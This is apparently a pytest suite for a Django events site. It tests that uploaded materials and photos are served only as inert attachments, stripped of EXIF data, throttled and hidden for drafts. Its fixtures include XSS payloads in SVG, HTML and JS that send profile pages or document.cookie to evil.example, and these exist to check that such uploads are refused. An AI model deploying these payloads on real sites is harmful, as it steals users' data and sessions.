"""Media pages (issue #12, findings 1, 2 and 8, tried as a visitor too): stored files
are served only by views that check visibility and never as active content; uploads are
checked one file at a time and throttled; external photos are images only where the CSP
allows their host; notebooks render sanitised."""

import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from rest_framework.settings import api_settings
from rest_framework.test import APIClient
from rest_framework.throttling import SimpleRateThrottle

from events import services
from events.models import Event, Material
from tests.events.factories import EventFactory, MaterialFactory, PhotoFactory
from tests.events.support import body, image_bytes, login, with_img_hosts

pytestmark = pytest.mark.django_db


def _upload_page(client, event, files, caption=""):
    return client.post(reverse("events:photos_upload", kwargs={"slug": event.slug}),
                       {"photos": files, "caption": caption})


@pytest.fixture
def two_uploads_a_minute(monkeypatch, settings):
    rates = {**api_settings.DEFAULT_THROTTLE_RATES, "uploads": "2/minute"}
    monkeypatch.setattr(SimpleRateThrottle, "THROTTLE_RATES", rates)


def test_a_material_is_served_as_an_attachment_that_cannot_run(client, event):
    material = MaterialFactory(event=event)
    response = client.get(material.file_url)
    assert response.status_code == 200
    assert body(response) == b"%PDF-1.4 slides"
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment")
    assert 'filename="slides.pdf"' in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


def test_a_legacy_html_material_is_served_as_bytes_not_a_page(client, event, settings):
    """Files stored before the allow-list keep their names and are never active content."""
    material = MaterialFactory(event=event)
    legacy = Path(settings.MEDIA_ROOT) / "events" / str(event.pk) / "materials" / "x.html"
    legacy.parent.mkdir(parents=True)
    legacy.write_bytes(b"<script>alert(1)</script>")
    material.file.name = f"events/{event.pk}/materials/x.html"
    material.filename = "x.html"
    material.save()
    response = client.get(material.file_url)
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert "sandbox" in response["Content-Security-Policy"]
    body(response)


def test_a_missing_file_is_not_found(client, event):
    material = MaterialFactory(event=event)
    material.file.storage.delete(material.file.name)
    assert client.get(material.file_url).status_code == 404


def test_photos_and_thumbnails_are_served_inline_without_exif(client, event, organiser):
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (22.0, 16.0, 30.0), 3: "E", 4: (113.0, 34.0, 12.0)}
    report = services.photos_upload(
        actor=organiser, event=event,
        uploads=[SimpleUploadedFile("fin.jpg", image_bytes((800, 600), "JPEG", exif=exif))])
    photo = report.saved[0]
    for url, longest in ((photo.src, 800), (photo.thumb_src, 480)):
        response = client.get(url)
        assert response.status_code == 200
        assert response["Content-Type"] == "image/jpeg"
        assert response["Content-Disposition"].startswith("inline")
        assert response["X-Content-Type-Options"] == "nosniff"
        with Image.open(io.BytesIO(body(response))) as served:
            assert max(served.size) == longest and not served.getexif()


def test_pages_and_the_api_link_to_the_views_never_to_stored_names(client, event):
    material = MaterialFactory(event=event)
    photo = PhotoFactory(event=event)
    page = client.get(event.get_absolute_url()).content.decode()
    api = APIClient().get(f"/api/v1/events/{event.slug}/").json()
    assert material.file_url in page and photo.thumb_src in page and photo.src in page
    assert api["materials"][0]["file_url"] == f"http://testserver{material.file_url}"
    assert api["photos"][0]["image_url"] == f"http://testserver{photo.src}"
    assert api["photos"][0]["thumbnail_url"] == f"http://testserver{photo.thumb_src}"
    text = page + str(api)
    for stored in (material.file.name, photo.image.name, photo.thumbnail.name):
        assert Path(stored).stem not in text


def test_a_fake_jpg_is_refused_alone_and_the_rest_of_the_batch_is_saved(client, event,
                                                                         organiser):
    client.force_login(organiser)
    response = _upload_page(client, event, [
        SimpleUploadedFile("good.png", image_bytes()),
        SimpleUploadedFile("fake.jpg", b"<html>not a photo</html>"),
        SimpleUploadedFile("also-good.jpg", image_bytes(fmt="JPEG", color=(1, 2, 3))),
    ], caption="Room")
    assert response.status_code == 302
    assert event.photos.count() == 2
    assert set(event.photos.values_list("caption", flat=True)) == {"Room"}
    page = client.get(response["Location"]).content.decode()
    assert "fake.jpg was not saved: This file is not an image we can read." in page
    assert "2 photos saved." in page


def test_a_duplicate_is_refused_and_not_saved_twice(client, event, organiser):
    client.force_login(organiser)
    data = image_bytes(color=(9, 9, 9))
    _upload_page(client, event, [SimpleUploadedFile("a.png", data)])
    response = _upload_page(client, event, [SimpleUploadedFile("a-again.png", data),
                                            SimpleUploadedFile("b.png", image_bytes())])
    assert event.photos.count() == 2
    page = client.get(response["Location"]).content.decode()
    assert "a-again.png was not saved: this photo is already in the event&#x27;s gallery" \
        in page
    # the same bytes twice in one batch are saved once
    other = EventFactory(organisers=[organiser])
    report = services.photos_upload(actor=organiser, event=other, uploads=[
        SimpleUploadedFile("x.png", data), SimpleUploadedFile("y.png", data)])
    assert len(report.saved) == 1 and report.refused[0][0] == "y.png"
    # another event may hold the same photo
    assert other.photos.count() == 1


def test_only_refused_files_keep_the_form_with_the_reasons(client, event, organiser):
    client.force_login(organiser)
    response = _upload_page(client, event, [SimpleUploadedFile("a.txt", b"hello")])
    assert response.status_code == 200
    assert "a.txt was not saved" in response.content.decode()
    assert not event.photos.exists()


def test_a_broken_upload_is_never_a_server_error(client, event, organiser):
    client.force_login(organiser)
    truncated = image_bytes((200, 200), "JPEG")[:300]
    response = _upload_page(client, event, [SimpleUploadedFile("cut.jpg", truncated),
                                            SimpleUploadedFile("empty.jpg", b"")])
    assert response.status_code == 200
    page = response.content.decode()
    assert "cut.jpg was not saved: The image is broken or truncated." in page
    assert "empty.jpg was not saved: The file is empty." in page


@pytest.mark.parametrize("page", ["events:photos_upload", "events:material_add"])
def test_uploads_are_throttled(client, event, organiser, two_uploads_a_minute, page):
    client.force_login(organiser)
    url = reverse(page, kwargs={"slug": event.slug})
    statuses = [client.post(url, {"title": "x"}).status_code for _ in range(3)]
    assert statuses[:2] == [200, 200] and statuses[2] == 429
    throttled = client.post(url, {"title": "x"})
    assert int(throttled["Retry-After"]) > 0
    assert client.get(url).status_code == 200  # reading the form is not an upload


def test_material_edit_is_throttled_too(client, event, organiser, two_uploads_a_minute):
    material = MaterialFactory(event=event)
    client.force_login(organiser)
    url = reverse("events:material_edit", kwargs={"slug": event.slug, "pk": material.pk})
    statuses = [client.post(url, {"title": ""}).status_code for _ in range(3)]
    assert statuses == [200, 200, 429]


def test_an_external_photo_is_a_link_unless_its_host_is_allowed(client, organiser, settings):
    event = EventFactory(organisers=[organiser])
    services.photo_add_external(actor=organiser, event=event,
                                url="https://ipic.zoomquiet.top/2019-09-09-room.jpg",
                                caption="The room")
    with_img_hosts(settings)
    page = client.get(event.get_absolute_url()).content.decode()
    assert 'src="https://ipic.zoomquiet.top' not in page
    assert 'class="photo-link" href="https://ipic.zoomquiet.top/2019-09-09-room.jpg"' in page
    assert "ipic.zoomquiet.top" in page and "The room" in page
    with_img_hosts(settings, "https://ipic.zoomquiet.top")
    page = client.get(event.get_absolute_url()).content.decode()
    assert '<img src="https://ipic.zoomquiet.top/2019-09-09-room.jpg"' in page
    client.force_login(organiser)
    manage = client.get(reverse("events:manage", kwargs={"slug": event.slug})).content.decode()
    assert '<img src="https://ipic.zoomquiet.top/2019-09-09-room.jpg"' in manage


def test_cancelled_events_files_stay_public(client, organiser):
    event = EventFactory(status=Event.Status.CANCELLED, organisers=[organiser])
    material = MaterialFactory(event=event)
    assert client.get(material.file_url).status_code == 200


def test_the_notebook_page_shows_plots_and_highlighted_code(client, event, organiser):
    import base64
    import json

    png = base64.b64encode(image_bytes((16, 10))).decode()
    content = json.dumps({"cells": [
        {"cell_type": "code", "id": "a", "metadata": {}, "execution_count": 1,
         "source": "import keras\nplt.plot(history)",
         "outputs": [{"output_type": "display_data", "metadata": {},
                      "data": {"image/png": png, "text/plain": "<Figure>"}}]}],
        "metadata": {"kernelspec": {"language": "python", "name": "python3",
                                    "display_name": "Python 3"}},
        "nbformat": 4, "nbformat_minor": 5}).encode()
    material = services.material_add(actor=organiser, event=event, title="Plots",
                                     kind="notebook",
                                     upload=SimpleUploadedFile("plots.ipynb", content))
    response = client.get(material.get_absolute_url())
    page = response.content.decode()
    assert f'<img src="data:image/png;base64,{png}"' in page
    assert '<span class="kn">import</span>' in page
    assert "events/notebook.css" in page and "style=" not in page
    assert "data:" in response["Content-Security-Policy"].split("img-src", 1)[1].split(";")[0]
    assert f'href="{material.file_url}"' in page
    download = client.get(material.file_url)
    assert download["Content-Disposition"].startswith("attachment")
    assert 'filename="plots.ipynb"' in download["Content-Disposition"]
    assert b"".join(download.streaming_content) == content


def test_a_stored_notebook_that_no_longer_validates_is_offered_for_download(client, event):
    from events.models import Material

    material = MaterialFactory(event=event, kind=Material.Kind.NOTEBOOK,
                               file__filename="broken.ipynb", file__data=b"{broken")
    response = client.get(material.get_absolute_url())
    assert response.status_code == 200
    assert "cannot be shown here" in response.content.decode()


SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/en/accounts/profile/\')'
       b'.then(r=>r.text()).then(t=>new Image().src=\'https://evil.example/?\'+t)"/>')


HTML = (b"<!doctype html><html><body><script>fetch('/en/accounts/profile/')"
        b".then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)"
        b"</script></body></html>")


@pytest.fixture
def stored(organiser):
    """A public event and a draft, each with an uploaded material and photo."""
    public = EventFactory(organisers=[organiser])
    draft = EventFactory(status=Event.Status.DRAFT, organisers=[organiser])
    return {
        "public": public, "draft": draft,
        "files": [MaterialFactory(event=public), PhotoFactory(event=public),
                  MaterialFactory(event=draft), PhotoFactory(event=draft)],
    }


def _stored_names(stored) -> list[str]:
    names = []
    for obj in stored["files"]:
        if isinstance(obj, Material):
            names.append(obj.file.name)
        else:
            names += [obj.image.name, obj.thumbnail.name]
    return names


def test_no_stored_file_is_reachable_by_a_path_built_from_public_data(visitor, stored):
    public = stored["public"]
    page = visitor.get(public.get_absolute_url()).content.decode()
    api = APIClient().get(f"/api/v1/events/{public.slug}/").content.decode()
    seen = page + api
    # the stored names, random or not, appear nowhere a visitor can read
    for name in _stored_names(stored):
        assert Path(name).stem not in seen
    # and no path a visitor could build from what they see reaches a file
    candidates = ["/media/" + name for name in _stored_names(stored)]
    for event in (public, stored["draft"]):
        for folder, filename in (("materials", "slides.pdf"), ("photos", "room.jpg"),
                                 ("thumbs", "room-thumb.jpg")):
            candidates.append(f"/media/events/{event.pk}/{folder}/{filename}")
            candidates.append(f"/en/media/events/{event.pk}/{folder}/{filename}")
    for href in re.findall(r'(?:href|src)="(/[a-z-]+/events/[^"?]+)"', page):
        candidates.append(href.replace("/events/", "/media/events/", 1))
    for url in candidates:
        assert visitor.get(url).status_code == 404, url


def test_a_drafts_files_are_not_found_even_through_the_views(visitor, stored):
    _m, _p, material, photo = stored["files"]
    for url in (material.file_url, photo.src, photo.thumb_src,
                reverse("events:material", kwargs={"slug": stored["draft"].slug,
                                                   "pk": material.pk})):
        assert visitor.get(url).status_code == 404, url


def test_ids_of_another_event_do_not_reach_a_draft_file(visitor, stored):
    """The public event's slug with the draft's ids: still not found."""
    public = stored["public"]
    _m, _p, material, photo = stored["files"]
    for name, pk in (("events:material_file", material.pk), ("events:photo", photo.pk),
                     ("events:photo_thumb", photo.pk)):
        url = reverse(name, kwargs={"slug": public.slug, "pk": pk})
        assert visitor.get(url).status_code == 404, url


@pytest.mark.parametrize(("name", "data", "kind"), [
    ("page.html", HTML, "slides"),
    ("logo.svg", SVG, "slides"),
    ("logo.png", SVG, "slides"),  # a disguised SVG
    ("notes.txt", HTML, "code"),
    ("app.js", b"new Image().src='https://evil.example/?'+document.cookie", "code"),
    ("slides.pdf", HTML, "slides"),
])
def test_an_active_file_uploaded_as_a_material_is_refused(client, organiser, settings, name,
                                                          data, kind):
    event = EventFactory(organisers=[organiser])
    client.force_login(organiser)
    response = client.post(
        reverse("events:material_add", kwargs={"slug": event.slug}),
        {"title": "Deck", "kind": kind,
         "file": SimpleUploadedFile(name, data, content_type="image/svg+xml")})
    assert response.status_code == 200
    page = response.content.decode()
    assert f"{name}:" in page or f"{name} " in page
    assert not Material.objects.exists()
    assert not any(p.is_file() for p in Path(settings.MEDIA_ROOT).rglob("*"))


def test_an_svg_photo_is_refused(client, organiser):
    event = EventFactory(organisers=[organiser])
    client.force_login(organiser)
    response = client.post(reverse("events:photos_upload", kwargs={"slug": event.slug}),
                           {"photos": [SimpleUploadedFile("fin.svg", SVG)]})
    assert "fin.svg was not saved" in response.content.decode()
    assert not event.photos.exists()


@pytest.mark.parametrize(("name", "data", "kind", "content_type"), [
    ("deck.pdf", b"%PDF-1.4 deck", "slides", "application/pdf"),
    ("train.py", b"print('hello')\n", "code", "text/plain; charset=utf-8"),
    ("demo.ipynb", b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
     "notebook", "application/x-ipynb+json"),
])
def test_a_material_served_back_cannot_run(visitor, organiser, name, data, kind,
                                           content_type):
    event = EventFactory(organisers=[organiser])
    material = services.material_add(actor=organiser, event=event, title="M", kind=kind,
                                     upload=SimpleUploadedFile(name, data))
    response = visitor.get(material.file_url)
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment")
    assert f'filename="{name}"' in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == data


def test_the_site_has_no_media_url(visitor, stored):
    from django.urls import Resolver404, resolve

    for path in ("/media/x.html", "/en/media/x.html"):
        with pytest.raises(Resolver404):
            resolve(path)


def test_event_page_embeds_only_allowed_players(client, organiser):
    from events import services

    event = EventFactory(organisers=[organiser])
    services.recording_add(actor=organiser, event=event, title="YT", provider="youtube",
                           url="https://www.youtube.com/watch?v=qyvlt7kiQoI")
    services.recording_add(actor=organiser, event=event, title="Audio", provider="drive",
                           url="https://pan.baidu.com/s/x", access_code="y9ey", kind="audio")
    response = client.get(event.get_absolute_url())
    page = response.content.decode()
    assert page.count("<iframe") == 1
    assert 'src="https://www.youtube-nocookie.com/embed/qyvlt7kiQoI"' in page
    assert "y9ey" in page
    csp = response["Content-Security-Policy"]
    assert "frame-src https://www.youtube-nocookie.com https://www.youtube.com " \
           "https://player.bilibili.com" in csp
    assert "style=" not in page and "<script>" not in page


def test_notebook_page_renders_sanitised(client, organiser):
    import json

    from django.core.files.uploadedfile import SimpleUploadedFile

    from events import services

    event = EventFactory(organisers=[organiser])
    nb = json.dumps({"cells": [{"cell_type": "markdown", "metadata": {}, "id": "x",
                                "source": "# Digits\n<script>alert(1)</script>"}],
                     "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
    material = services.material_add(actor=organiser, event=event, title="nb",
                                     kind="notebook",
                                     upload=SimpleUploadedFile("d.ipynb", nb))
    page = client.get(material.get_absolute_url()).content.decode()
    assert "Digits" in page and "alert(1)" not in page


def test_photo_upload_page_reports_bad_file(client, event, organiser):
    from django.core.files.uploadedfile import SimpleUploadedFile

    login(client, organiser)
    response = client.post(reverse("events:photos_upload", kwargs={"slug": event.slug}),
                           {"photos": [SimpleUploadedFile("x.jpg", b"nope")]})
    assert response.status_code == 200
    assert "x.jpg was not saved: This file is not an image we can read." in \
        response.content.decode()
    assert not event.photos.exists()


def test_each_link_to_a_recording_material_or_external_photo_names_what_it_opens(client,
                                                                                 organiser):
    """Screen readers list a page's links by name alone: "Open the recording" three times
    over, or "link" and "download", do not say which one is which."""
    from bs4 import BeautifulSoup

    from tests.events.factories import RecordingFactory

    event = EventFactory(organisers=[organiser])
    RecordingFactory(event=event, title="Audio from the room")
    RecordingFactory(event=event, title="Zoom replay")
    MaterialFactory(event=event, title="Slides of the opening")
    MaterialFactory(event=event, title="The demo code", file=None,
                    url="https://github.com/example/demo")
    for caption in ("The room", "The host"):
        services.photo_add_external(actor=organiser, event=event, caption=caption,
                                    url=f"https://ipic.zoomquiet.top/{caption[-4:]}.jpg")
    page = BeautifulSoup(client.get(event.get_absolute_url()).content, "html.parser")
    names = [" ".join(a.get_text(" ").split())
             for a in page.select("#recordings a, #materials a, #gallery a")]
    assert len(names) == len(set(names)) == 6, names
    assert "Open the recording : Zoom replay" in names
    assert "link : The demo code" in names
    assert any(n.startswith("Photo hosted elsewhere : The host") for n in names)
